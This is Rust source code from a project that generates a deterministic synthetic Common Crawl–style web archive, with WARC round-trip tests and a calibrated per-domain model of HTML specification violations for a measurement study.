        assert_eq!(rec2.date, "2022-01-20T00:00:00Z");
    }

    #[test]
    fn export_and_scan_files() {
        let archive = Archive::new(CorpusConfig { seed: 31, scale: 0.001 });
        let dir = std::env::temp_dir().join("hv_warc_test");
        let snap = Snapshot::ALL[7];
        let (warc, cdx, n) = export_snapshot(&archive, snap, &dir, 3).unwrap();
        assert!(n > 0);
        let index = load_cdxj(&cdx).unwrap();
        assert_eq!(index.len(), n);
        // SURT-sorted.
        assert!(index.windows(2).all(|w| w[0].surt <= w[1].surt));
        // Every indexed record reads back and matches the virtual archive.
        let mut f = std::fs::File::open(&warc).unwrap();
        for line in index.iter().take(10) {
            let rec = read_record(&mut f, line.offset, line.length).unwrap();
            assert_eq!(rec.url, line.url);
            assert!(!rec.body.is_empty());
        }
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn parse_record_rejects_garbage() {
        assert!(parse_record(b"HTTP/1.1 200 OK\r\n\r\n").is_err());
        assert!(parse_record(b"WARC/1.0\r\nContent-Length: 999\r\n\r\nshort").is_err());
        assert!(parse_record(b"").is_err());
    }
}

#[cfg(test)]
mod warc_props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        /// Any body (including CRLF-rich and binary-ish content) survives a
        /// WARC write/read round trip at any record position.
        #[test]
        fn record_roundtrip(bodies in proptest::collection::vec(
            proptest::collection::vec(any::<u8>(), 0..300), 1..6)
        ) {
            let mut buf = std::io::Cursor::new(Vec::new());
            let mut w = WarcWriter::new(&mut buf);
            let mut spans = Vec::new();
            for (i, body) in bodies.iter().enumerate() {
                let url = format!("https://prop.example/{i}");
                spans.push((url, w.write_response(
                    &format!("https://prop.example/{i}"),
                    "2020-01-20T00:00:00Z",
                    body,
                ).unwrap()));
            }
            for ((url, (offset, length)), body) in spans.iter().zip(&bodies) {
                let rec = read_record(&mut buf, *offset, *length).unwrap();
                prop_assert_eq!(&rec.url, url);
                prop_assert_eq!(&rec.body, body);
            }
        }

        /// Robustness: flipping any single byte of a WARC file yields, for
        /// every indexed record, either the same parse or a structured
        /// [`WarcError`] — never a panic and never an unbounded loop. This
        /// is the failure model the fault-injected scan relies on.
        #[test]
        fn single_byte_mutation_never_panics(
            bodies in proptest::collection::vec(
                proptest::collection::vec(any::<u8>(), 0..120), 1..4),
            pos_seed in any::<u64>(),
            flip_seed in 0u8..255,
        ) {
            let flip = flip_seed + 1; // 1..=255: the byte really changes
            let mut buf = std::io::Cursor::new(Vec::new());
            let mut w = WarcWriter::new(&mut buf);
            let mut spans = Vec::new();
            for (i, body) in bodies.iter().enumerate() {
                spans.push(w.write_response(
                    &format!("https://mut.example/{i}"),
                    "2020-01-20T00:00:00Z",
                    body,
                ).unwrap());
            }
            let clean = buf.get_ref().clone();
            let mut mutated = clean.clone();
            let pos = (pos_seed % clean.len() as u64) as usize;
            mutated[pos] ^= flip; // flip != 0, so the byte really changes
            let mut cur = std::io::Cursor::new(mutated);
            for ((offset, length), body) in spans.iter().zip(&bodies) {
                match read_record(&mut cur, *offset, *length) {
                    Ok(rec) => {
                        // Parsed: the record either missed the mutation
                        // entirely (identical body) or absorbed it into a
                        // free-text field; the body length is still bounded
                        // by the record span.
                        let same = rec.body == *body;
                        prop_assert!(same || rec.body.len() <= *length as usize);
                    }
                    Err(_e) => {} // structured error — acceptable outcome
                }
            }
        }

        /// CDXJ lines round-trip for any offsets/lengths.
        #[test]
        fn cdxj_roundtrip_prop(offset in 0u64..u64::MAX / 2, length in 1u64..1_000_000) {
            let line = CdxjLine {
                surt: "com,example)/x".into(),
                timestamp: "20190120000000".into(),
                url: "https://example.com/x".into(),
                mime: "text/html".into(),
                status: 200,
                offset,
                length,
            };
            prop_assert_eq!(CdxjLine::parse(&line.render()), Some(line));
        }
    }
}
