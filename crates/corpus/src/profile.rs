//! Per-domain, per-snapshot latent state: presence on Common Crawl, UTF-8
//! decodability, page counts, and the set of violations the domain
//! expresses — everything drawn deterministically from the calibrated
//! model (see [`crate::calibration`]).

use crate::calibration::{paper_yearly_pct, Calibrated, PAPER_NEWLINE_URL_PCT};
use crate::rng;
use crate::snapshots::{Snapshot, SnapshotTargets, FOUND_EVER, TABLE2_TARGETS, YEARS};
use crate::tranco::RankedDomain;
use hv_core::ViolationKind;

/// Key tags for the deterministic draws (distinct namespaces so draws never
/// collide).
mod key {
    pub const NEVER_CC: u64 = 0x01;
    pub const PRESENT: u64 = 0x02;
    pub const UTF8: u64 = 0x03;
    pub const SIZE: u64 = 0x04;
    pub const SMALL_PAGES: u64 = 0x05;
    pub const DISCIPLINED: u64 = 0x06;
    pub const CHRONIC: u64 = 0x07;
    pub const ACTIVE: u64 = 0x08;
    pub const EXPRESS: u64 = 0x09;
    pub const NEWLINE_URL: u64 = 0x0A;
    pub const ARCHETYPE: u64 = 0x0B;
    pub const MATH_USAGE: u64 = 0x0C;
}

/// Broad site archetype: varies the clean page skeleton so the corpus is
/// not one template repeated 15M times.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Archetype {
    News,
    Shop,
    Blog,
    Docs,
    App,
    Portal,
}

impl Archetype {
    pub const ALL: [Archetype; 6] = [
        Archetype::News,
        Archetype::Shop,
        Archetype::Blog,
        Archetype::Docs,
        Archetype::App,
        Archetype::Portal,
    ];
}

/// Everything known about one domain in one snapshot.
#[derive(Debug, Clone)]
pub struct DomainSnapshot {
    pub domain_id: u64,
    pub domain_name: String,
    pub rank: u32,
    pub snapshot: Snapshot,
    /// Whether the documents decode as UTF-8 (Table 2 "Succ. Analyzed").
    pub utf8_ok: bool,
    /// Number of archived pages (≤ 100, as in the study).
    pub page_count: usize,
    /// Violations this domain expresses in this snapshot.
    pub expressed: Vec<ViolationKind>,
    /// §4.5 extra feature: multi-line URLs without `<` (not a violation,
    /// but counted by the mitigation analysis).
    pub benign_newline_url: bool,
    /// §4.2 usage statistic: the domain uses (well-formed) `math` markup —
    /// 42 domains in 2015 growing to 224 in 2022 in the paper.
    pub uses_math: bool,
    pub archetype: Archetype,
}

/// The profile model: pure functions of (seed, calibration, domain id).
pub struct ProfileModel {
    pub seed: u64,
    pub cal: Calibrated,
    /// Per-year presence rate among CC-covered domains.
    presence: [f64; YEARS],
    /// Probability that a domain is at the 100-page cap, per year (solved
    /// from Table 2's average pages).
    cap_prob: [f64; YEARS],
    /// Chronic rate for the benign newline-URL feature.
    newline_chronic: f64,
}

/// Share of the universe with no HTML content on CC at all (ad/API domains
/// like doubleclick.net): 24,915 − 24,050 over 24,915.
const NEVER_IN_CC: f64 = (24_915.0 - 24_050.0) / 24_915.0;

/// Small (non-capped) domains have between 4 and 99 pages, uniform.
const SMALL_LO: usize = 4;
const SMALL_HI: usize = 99;

impl ProfileModel {
    pub fn new(seed: u64, cal: Calibrated) -> Self {
        let mut presence = [0.0; YEARS];
        let mut cap_prob = [0.0; YEARS];
        for (y, t) in TABLE2_TARGETS.iter().enumerate() {
            presence[y] = t.domains as f64 / FOUND_EVER as f64;
            cap_prob[y] = solve_cap_prob(t);
        }
        // The benign newline-URL feature: yearly ≈ 11%, assumed union ≈
        // 18% (not reported by the paper; only the yearly series is).
        let newline_chronic = 0.18;
        ProfileModel { seed, cal, presence, cap_prob, newline_chronic }
    }

    /// Domain is an ad/API endpoint never archived as HTML.
    pub fn never_in_cc(&self, id: u64) -> bool {
        rng::chance(self.seed, &[key::NEVER_CC, id], NEVER_IN_CC)
    }

    /// Domain has a CC entry in this snapshot.
    pub fn present(&self, id: u64, snap: Snapshot) -> bool {
        !self.never_in_cc(id)
            && rng::chance(
                self.seed,
                &[key::PRESENT, id, snap.index() as u64],
                self.presence[snap.index()],
            )
    }

    /// Domain's documents decode as UTF-8 in this snapshot.
    pub fn utf8_ok(&self, id: u64, snap: Snapshot) -> bool {
        rng::chance(
            self.seed,
            &[key::UTF8, id, snap.index() as u64],
            TABLE2_TARGETS[snap.index()].success_rate,
        )
    }

    /// Pages stored for this domain in this snapshot (1..=100).
    pub fn page_count(&self, id: u64, snap: Snapshot) -> usize {
        // A persistent per-domain size percentile: big sites stay big
        // across years; the yearly cap probability shifts the threshold
        // (Common Crawl stored more pages per domain from 2017 on).
        let size_pct = rng::unit(self.seed, &[key::SIZE, id]);
        if size_pct < self.cap_prob[snap.index()] {
            100
        } else {
            rng::range(self.seed, &[key::SMALL_PAGES, id, snap.index() as u64], SMALL_LO, SMALL_HI)
        }
    }

    pub fn archetype(&self, id: u64) -> Archetype {
        Archetype::ALL[rng::below(self.seed, &[key::ARCHETYPE, id], Archetype::ALL.len())]
    }

    /// The calibrated violation model (see `calibration` module docs).
    pub fn expressed(&self, id: u64, snap: Snapshot) -> Vec<ViolationKind> {
        if rng::chance(self.seed, &[key::DISCIPLINED, id], self.cal.disciplined) {
            return Vec::new();
        }
        let y = snap.index();
        if !rng::chance(self.seed, &[key::ACTIVE, id, y as u64], self.cal.activity[y]) {
            return Vec::new();
        }
        let mut out = Vec::new();
        for (i, &kind) in ViolationKind::ALL.iter().enumerate() {
            let chronic =
                rng::chance(self.seed, &[key::CHRONIC, id, i as u64], self.cal.chronic[i]);
            if chronic
                && rng::chance(
                    self.seed,
                    &[key::EXPRESS, id, i as u64, y as u64],
                    self.cal.express[i][y],
                )
            {
                out.push(kind);
            }
        }
        // DM2_1's base-in-body injection structurally implies DM2_3 on
        // pages whose head references URLs; the generator avoids that
        // (URL-free head variant) unless DM2_3 is independently expressed,
        // keeping both marginals calibrated — nothing to adjust here.
        out
    }

    /// §4.2's math-usage counter: domains adopting MathML markup, growing
    /// from 42 (0.20% of analyzed domains) in 2015 to 224 (1.0%) in 2022.
    /// A persistent percentile makes adoption monotone: once a site uses
    /// math it keeps using it.
    pub fn uses_math(&self, id: u64, snap: Snapshot) -> bool {
        const RATE_PCT: [f64; YEARS] = [0.20, 0.25, 0.33, 0.42, 0.55, 0.70, 0.85, 1.00];
        rng::unit(self.seed, &[key::MATH_USAGE, id]) < RATE_PCT[snap.index()] / 100.0
    }

    /// §4.5's benign multi-line URL feature (no `<`).
    pub fn benign_newline_url(&self, id: u64, snap: Snapshot) -> bool {
        if rng::chance(self.seed, &[key::DISCIPLINED, id], self.cal.disciplined) {
            return false;
        }
        let y = snap.index();
        let chronic = rng::chance(self.seed, &[key::NEWLINE_URL, id], self.newline_chronic);
        if !chronic {
            return false;
        }
        // Subtract DE3_1's contribution (those URLs also contain newlines).
        let de3_1 = paper_yearly_pct(ViolationKind::DE3_1)[y];
        let target = ((PAPER_NEWLINE_URL_PCT[y] - de3_1) / 100.0).max(0.0);
        let p = (target / (1.0 - self.cal.disciplined) / self.newline_chronic).clamp(0.0, 1.0);
        rng::chance(self.seed, &[key::NEWLINE_URL, id, y as u64], p)
    }

    /// Assemble the full snapshot view for one domain, or `None` when the
    /// domain is not on Common Crawl in that snapshot.
    pub fn domain_snapshot(&self, d: &RankedDomain, snap: Snapshot) -> Option<DomainSnapshot> {
        if !self.present(d.id, snap) {
            return None;
        }
        Some(DomainSnapshot {
            domain_id: d.id,
            domain_name: d.name.clone(),
            rank: d.rank,
            snapshot: snap,
            utf8_ok: self.utf8_ok(d.id, snap),
            page_count: self.page_count(d.id, snap),
            expressed: self.expressed(d.id, snap),
            benign_newline_url: self.benign_newline_url(d.id, snap),
            uses_math: self.uses_math(d.id, snap),
            archetype: self.archetype(d.id),
        })
    }
}

/// Solve the 100-page cap probability from Table 2's average pages:
/// `cap·100 + (1-cap)·mean(small) = avg`.
fn solve_cap_prob(t: &SnapshotTargets) -> f64 {
    let small_mean = (SMALL_LO + SMALL_HI) as f64 / 2.0;
    ((t.avg_pages - small_mean) / (100.0 - small_mean)).clamp(0.0, 1.0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::calibration;

    fn model() -> ProfileModel {
        ProfileModel::new(99, calibration::solve())
    }

    #[test]
    fn presence_rates_match_table2() {
        let m = model();
        let n = 40_000u64;
        for snap in Snapshot::ALL {
            let present = (0..n).filter(|&i| m.present(i, snap)).count() as f64 / n as f64;
            let target = TABLE2_TARGETS[snap.index()].domains as f64 / 24_915.0;
            assert!(
                (present - target).abs() < 0.01,
                "{snap}: present {present:.3} vs target {target:.3}"
            );
        }
    }

    #[test]
    fn found_ever_rate_matches() {
        let m = model();
        let n = 40_000u64;
        let found = (0..n).filter(|&i| Snapshot::ALL.iter().any(|&s| m.present(i, s))).count()
            as f64
            / n as f64;
        let target = FOUND_EVER as f64 / 24_915.0; // 96.5%
        assert!((found - target).abs() < 0.01, "found-ever {found:.3} vs {target:.3}");
    }

    #[test]
    fn average_pages_match_table2() {
        let m = model();
        let n = 20_000u64;
        for snap in [Snapshot::ALL[0], Snapshot::ALL[4], Snapshot::ALL[7]] {
            let total: usize = (0..n).map(|i| m.page_count(i, snap)).sum();
            let avg = total as f64 / n as f64;
            let target = TABLE2_TARGETS[snap.index()].avg_pages;
            assert!((avg - target).abs() < 1.5, "{snap}: avg {avg:.1} vs {target}");
        }
    }

    #[test]
    fn page_counts_bounded() {
        let m = model();
        for i in 0..2_000u64 {
            let c = m.page_count(i, Snapshot::ALL[3]);
            assert!((1..=100).contains(&c));
        }
    }

    #[test]
    fn domain_size_is_persistent() {
        // A domain capped at 100 pages in 2022 was almost surely large in
        // 2019 too (same size percentile).
        let m = model();
        let mut both = 0;
        let mut late_only = 0;
        for i in 0..5_000u64 {
            let early = m.page_count(i, Snapshot::ALL[4]) == 100;
            let late = m.page_count(i, Snapshot::ALL[7]) == 100;
            if late && early {
                both += 1;
            }
            if late && !early {
                late_only += 1;
            }
        }
        assert!(both > late_only * 10, "size must be persistent: {both} vs {late_only}");
    }

    #[test]
    fn expressed_rates_track_calibration() {
        let m = model();
        let n = 30_000u64;
        let snap = Snapshot::ALL[0];
        let mut fb2 = 0usize;
        let mut any = 0usize;
        for i in 0..n {
            let ex = m.expressed(i, snap);
            if ex.contains(&ViolationKind::FB2) {
                fb2 += 1;
            }
            if !ex.is_empty() {
                any += 1;
            }
        }
        let fb2_rate = 100.0 * fb2 as f64 / n as f64;
        let any_rate = 100.0 * any as f64 / n as f64;
        assert!((fb2_rate - 47.0).abs() < 1.5, "FB2 2015: {fb2_rate:.2}%");
        assert!((any_rate - 74.31).abs() < 1.5, "any 2015: {any_rate:.2}%");
    }

    #[test]
    fn disciplined_domains_never_express() {
        let m = model();
        for i in 0..20_000u64 {
            if rng::chance(m.seed, &[key::DISCIPLINED, i], m.cal.disciplined) {
                for snap in Snapshot::ALL {
                    assert!(m.expressed(i, snap).is_empty());
                }
            }
        }
    }

    #[test]
    fn math_usage_grows_and_is_persistent() {
        let m = model();
        let n = 60_000u64;
        let first = (0..n).filter(|&i| m.uses_math(i, Snapshot::ALL[0])).count();
        let last = (0..n).filter(|&i| m.uses_math(i, Snapshot::ALL[7])).count();
        let f_pct = 100.0 * first as f64 / n as f64;
        let l_pct = 100.0 * last as f64 / n as f64;
        assert!((f_pct - 0.20).abs() < 0.08, "2015 math usage {f_pct:.3}%");
        assert!((l_pct - 1.00).abs() < 0.15, "2022 math usage {l_pct:.3}%");
        // Monotone adoption: every 2015 user is a 2022 user.
        for i in 0..n {
            if m.uses_math(i, Snapshot::ALL[0]) {
                assert!(m.uses_math(i, Snapshot::ALL[7]));
            }
        }
    }

    #[test]
    fn benign_newline_url_rate() {
        let m = model();
        let n = 40_000u64;
        let snap = Snapshot::ALL[7];
        let hits = (0..n).filter(|&i| m.benign_newline_url(i, snap)).count();
        let rate = 100.0 * hits as f64 / n as f64;
        // Target: 11.0% − DE3_1's 0.76% ≈ 10.2%.
        assert!((rate - 10.24).abs() < 0.8, "newline-url rate {rate:.2}%");
    }
}
