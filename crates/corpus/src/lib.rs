//! # hv-corpus — a deterministic synthetic web archive
//!
//! Stand-in for the data resources the paper measured against: the Tranco
//! top lists and eight years of Common Crawl snapshots (2015–2022). Nothing
//! here requires network or disk: the whole archive is a pure function of a
//! seed.
//!
//! * [`tranco`] — simulated Tranco lists and the paper's all-lists
//!   intersection + average-rank ordering (→ 24,915 domains at full scale).
//! * [`calibration`] — the paper's published rates (Figure 8/9/10, appendix
//!   B, Table 2, §4.2/§4.4/§4.5) digitized as constants, and a solver that
//!   turns them into generator parameters (disciplined share, chronic
//!   rates, per-year activity gates, expression probabilities).
//! * [`profile`] — per-domain latent state drawn from those parameters.
//! * [`htmlgen`] — realistic page generation with *concrete violating
//!   markup* injected; checkers must rediscover everything from bytes.
//! * [`archive`] — the Common-Crawl-shaped interface: CDX lookup + WARC
//!   record fetch, bodies generated on demand (no storage).
//! * [`snapshots`] — the eight `CC-MAIN-*` snapshot ids and Table-2
//!   targets.
//! * [`faults`] — seeded deterministic fault injection over the read path
//!   (truncation, corrupt compression, mojibake, oversized bodies,
//!   malformed CDX, transient I/O) for chaos-testing the scan pipeline.
//!
//! ```
//! use hv_corpus::{Archive, CorpusConfig, Snapshot};
//!
//! let archive = Archive::new(CorpusConfig { seed: 7, scale: 0.002 });
//! let domain = &archive.domains()[0];
//! let cdx = archive.cdx_lookup(domain, Snapshot::ALL[7]);
//! if let Some(cdx) = cdx {
//!     let record = archive.fetch(&cdx.pages[0]);
//!     assert!(std::str::from_utf8(&record.body).is_ok() == cdx.snapshot.utf8_ok);
//! }
//! ```

pub mod archive;
pub mod auxstudies;
pub mod calibration;
pub mod faults;
pub mod htmlgen;
pub mod profile;
pub mod rng;
pub mod snapshots;
pub mod tranco;
pub mod warc;

pub use archive::{Archive, CdxEntry, CorpusConfig, DomainCdx, WarcRecord};
pub use faults::{Fault, FaultClass, FaultPlan, FetchFault, PageKey};
pub use profile::{Archetype, DomainSnapshot, ProfileModel};
pub use snapshots::{Snapshot, YEARS};
pub use tranco::RankedDomain;
